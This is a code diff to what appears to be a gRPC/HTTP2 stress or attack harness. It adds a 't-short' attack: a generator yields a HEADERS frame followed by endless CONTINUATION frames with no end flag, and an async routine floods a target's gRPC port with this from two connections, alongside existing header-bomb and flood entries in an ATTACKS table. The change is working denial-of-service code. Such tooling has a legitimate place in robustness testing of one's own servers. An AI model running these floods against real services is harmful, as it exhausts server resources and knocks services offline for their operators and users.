@@ -89,6 +89,18 @@ async def endless_headers(target: Target) -> None:
     await many(12, lambda: flood(target.grpc_port, endless()))
 
 
+def short(call: bytes = HEALTH_CALL) -> Iterator[bytes]:
+    """Headers of five bytes, without an end: gRPC takes twenty bytes for one."""
+    yield frame(1, 0, 1, call)
+    while True:
+        yield frame(9, 0, 1, b"\x00\x01a\x01b" * 3000)
+
+
+async def short_headers(target: Target) -> None:
+    """t: blocks of headers of five bytes that do not end, from two connections."""
+    await many(2, lambda: flood(target.grpc_port, short()))
+
+
 def no_text(call: bytes = HEALTH_CALL) -> Iterator[bytes]:
     """Calls with headers that are not UTF-8."""
     yield frame(1, 5, 1, call + b"\x40\x01a\x01\xff" + b"\xbe" * 200)
@@ -224,6 +236,7 @@ async def new_keys(target: Target) -> None:
 ATTACKS: Final[dict[str, Attack]] = {
     "t-bomb": header_bombs,
     "t-endless": endless_headers,
+    "t-short": short_headers,
     "t-text": headers_without_text,
     "u": small_shares,
     "u-adds": complete_adds,
